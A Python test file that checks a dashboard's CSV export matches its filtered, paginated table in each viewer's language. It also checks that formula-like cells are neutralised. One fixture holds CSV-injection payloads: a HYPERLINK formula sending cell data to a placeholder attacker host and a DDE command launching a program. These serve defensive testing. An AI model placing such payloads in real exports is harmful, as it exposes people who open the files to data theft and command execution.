"""The CSV download holds exactly what the portfolio's table shows, filter by filter, in the
viewer's language: the same rows in the same order with the same words, every page of them
(over 50 partnerships the table has pages, the CSV has them all). A cell a spreadsheet would
run as a formula is made inert. Once on PostgreSQL too."""

from __future__ import annotations

from collections.abc import Callable, Iterator

import pytest

from bot.services import Core, Services
from bot.services.dashboard import PAGE_SIZE
from bot.web.pages import FORMULA_START
from storage.db import make_engine, session_scope
from storage.migrate import upgrade
from storage.models import Organisation, Partnership
from tests.bot.web.browser import NOW
from tests.bot.web.client import (
    PREFIX,
    Site,
    browser,
    call,
    csv_rows,
    link,
    parsed,
    seeded_site,
    table_header,
    table_rows,
    text_of,
    words,
)
from tests.bot.web.seed import seed_many

# A filter by organisation is given by name: the test reads its id from the form's choices.
FILTERS = {
    "none": "",
    "step": "stage=implementation",
    "health": "health=amber",
    "not assessed": "health=none",
    "organisation": "organisation={Boulangeries Martin}",
    "open alerts": "alert=open",
    "no alert": "alert=none",
    "step, health, alerts": "stage=implementation&health=amber&alert=open",
    "step and organisation": "stage=implementation&organisation={Fondation SNCF}",
    "nothing matches": "stage=diagnosis&health=red",
}


@pytest.fixture(scope="module")
def site(tmp_path_factory) -> Iterator[Site]:
    url = f"sqlite:///{tmp_path_factory.mktemp('csv') / 'alliance.db'}"
    upgrade(url)
    with seeded_site(url) as made:
        yield made


def organisation_ids(html: str) -> dict[str, str]:
    """The organisations the form offers to filter by, name -> id."""
    options = parsed(html).xpath('//select[@name="organisation"]/option[@value!=""]')
    return {option.text_content(): option.get("value") for option in options}


def uninert(csv_cell: str, shown: str) -> str:
    """The CSV's cell as the page shows it: a formula-like cell has a leading apostrophe."""
    if csv_cell.startswith("'") and csv_cell[1:].startswith(FORMULA_START):
        csv_cell = csv_cell[1:]
    return words(csv_cell)


def assert_same_rows(shown: list[list[str]], downloaded: list[list[str]]) -> None:
    assert len(downloaded) == len(shown)
    for on_page, in_file in zip(shown, downloaded, strict=True):
        assert [uninert(c, s) for c, s in zip(in_file, on_page, strict=True)] == on_page


def expected(seeded, case: str) -> Callable[[str], bool]:
    """Which seeded partnerships (by key) a filter keeps."""
    # An alert is open until its cause is gone: a handled one counts.
    alerted = {a.partnership for a in seeded.alerts if a.state != "cleared"}
    stage, light = seeded.stages.get, seeded.lights.get
    return {
        "none": lambda key: True,
        "step": lambda key: stage(key) == "implementation",
        "health": lambda key: light(key) == "amber",
        "not assessed": lambda key: light(key) == "none",
        "organisation": lambda key: key in ("green", "late"),
        "open alerts": lambda key: key in alerted,
        "no alert": lambda key: key not in alerted,
        "step, health, alerts": lambda key: (
            stage(key) == "implementation" and light(key) == "amber" and key in alerted
        ),
        "step and organisation": lambda key: key == "red_dimension",
        "nothing matches": lambda key: False,
    }[case]


@pytest.mark.parametrize("role", ["coordinator", "member"])
@pytest.mark.parametrize("case", FILTERS)
async def test_the_csv_holds_the_rows_the_table_shows(site, role, case):
    """Claire reads French, Malik English: the CSV is in each one's language."""
    seeded = site.seeded
    async with browser(site.services, getattr(seeded, role).external_id) as client:
        everything = await text_of(client, f"{PREFIX}/")
        query = FILTERS[case].format_map(organisation_ids(everything))
        html = await text_of(client, f"{PREFIX}/?{query}")
        href = link(html, '//a[@id="csv"]')
        download = await call(client, "GET", href)
    assert href == f"{PREFIX}/portfolio.csv" + (f"?{query}" if query else "")
    assert download.status == 200
    assert download.headers["Content-Type"] == "text/csv; charset=utf-8"
    name = "tableau-de-bord.csv" if role == "coordinator" else "dashboard.csv"
    assert download.headers["Content-Disposition"] == f'attachment; filename="{name}"'
    header, *lines = csv_rows(download.body)
    assert header == table_header(everything)
    assert header[0] == ("Partenariat" if role == "coordinator" else "Partnership")
    shown = table_rows(html)
    assert_same_rows([cells for _pid, cells in shown], lines)
    # The filter filtered: the rows are those the seed put in that state, of those reached.
    reached = {seeded.key_of(pid) for pid, _ in table_rows(everything)}
    kept = {seeded.key_of(pid) for pid, _ in shown}
    assert kept == {key for key in reached if expected(seeded, case)(key)}
    assert kept or case == "nothing matches"


async def test_the_csv_holds_every_page_of_the_table(tmp_path):
    """160 partnerships: the table shows them 50 a page, its links keep the filter; the pages
    together hold each partnership once, as the CSV does."""
    url = f"sqlite:///{tmp_path / 'many.db'}"
    upgrade(url)
    many = seed_many(url, 160, NOW)
    engine = make_engine(url)
    services = Services(engine, Core("Europe/Paris"), clock=lambda: NOW)
    try:
        async with browser(services, many.coordinator) as client:
            for query in ("", "stage=implementation", "health=green", "alert=none"):
                path = f"{PREFIX}/?{query}"
                shown: list[tuple[int, list[str]]] = []
                visited = 0
                while path is not None:
                    html = await text_of(client, path)
                    shown += table_rows(html)
                    visited += 1
                    path = link(html, '//nav[@class="pages"]/a[@rel="next"]')
                    if path is not None:
                        assert path.startswith("?") and query in path
                        path = f"{PREFIX}/{path}"
                download = await call(client, "GET", f"{PREFIX}/portfolio.csv?{query}")
                _header, *lines = csv_rows(download.body)
                ids = [pid for pid, _ in shown]
                assert len(ids) == len(set(ids)), f"{query}: a row on two pages"
                assert len(ids) > PAGE_SIZE, f"{query}: one page only, nothing tested"
                assert visited == -(-len(ids) // PAGE_SIZE)
                assert_same_rows([cells for _pid, cells in shown], lines)
            everything = await text_of(client, f"{PREFIX}/")
            last = await text_of(client, f"{PREFIX}/?page=99999")
            before_first = await text_of(client, f"{PREFIX}/?page=-1")
    finally:
        engine.dispose()
    first_page = table_rows(everything)
    assert len(first_page) == PAGE_SIZE
    assert table_rows(before_first) == first_page
    # Past the end: the last page (160 = 3 × 50 + 10).
    assert len(table_rows(last)) == 10
    assert link(last, '//nav[@class="pages"]/a[@rel="next"]') is None
    assert link(last, '//nav[@class="pages"]/a[@rel="prev"]') == "?page=3"


FORMULAS = {
    "green": '=HYPERLINK("http://evil.example/?"&A1,"Cliquez")',
    "late": "@SUM(1+1)*cmd|' /C calc'!A0",
    "steering": "+33 6 12 34 56 78",
    "ending": "-2+3",
    "content": "\tTabulé",
}


async def test_the_csv_starts_with_a_bom_and_makes_formulas_inert(sqlite_url):
    with seeded_site(sqlite_url) as site:
        engine = make_engine(site.url)
        with session_scope(engine) as db:
            for key, name in FORMULAS.items():
                db.get(Partnership, site.seeded.partnerships[key]).name = name
            db.get(Organisation, site.seeded.organisation).name = "=1+1"
        engine.dispose()
        async with browser(site.services, site.seeded.member.external_id) as client:
            html = await text_of(client, f"{PREFIX}/")
            download = await call(client, "GET", f"{PREFIX}/portfolio.csv")
    assert download.body.startswith(b"\xef\xbb\xbf")
    _header, *lines = csv_rows(download.body)
    by_name = {line[0]: line for line in lines}
    for name in FORMULAS.values():
        assert "'" + name in by_name, name
        # On the page, the name as it was written.
        assert words(name) in [cells[0] for _pid, cells in table_rows(html)]
    # Our organisation's name starts the organisations' cell of every row.
    assert all(line[1].startswith("'=1+1 / ") for line in lines)
    assert not any(cell.startswith(FORMULA_START) for line in lines for cell in line)


async def test_on_postgresql_the_csv_equals_the_table_and_other_ids_answer_404(
    clean_postgres_url,
):
    with seeded_site(clean_postgres_url) as site:
        seeded = site.seeded
        theirs = seeded.others["other_implementation"]
        async with browser(site.services, seeded.coordinator.external_id) as client:
            html = await text_of(client, f"{PREFIX}/?alert=open")
            download = await call(client, "GET", f"{PREFIX}/portfolio.csv?alert=open")
            refused = [
                await call(client, "GET", f"{PREFIX}{path}")
                for path in (
                    f"/p/{theirs}",
                    f"/p/{theirs}/documents/{site.other_documents[0]}",
                    f"/p/{seeded.partnerships['green']}/documents/{site.other_documents[0]}",
                    # Beyond PostgreSQL's integer (the ids' type): found nowhere, no error.
                    "/p/3000000000",
                    f"/p/{seeded.partnerships['green']}/documents/3000000000",
                )
            ]
    _header, *lines = csv_rows(download.body)
    assert_same_rows([cells for _pid, cells in table_rows(html)], lines)
    assert len(lines) >= 5
    assert [answer.status for answer in refused] == [404] * 5
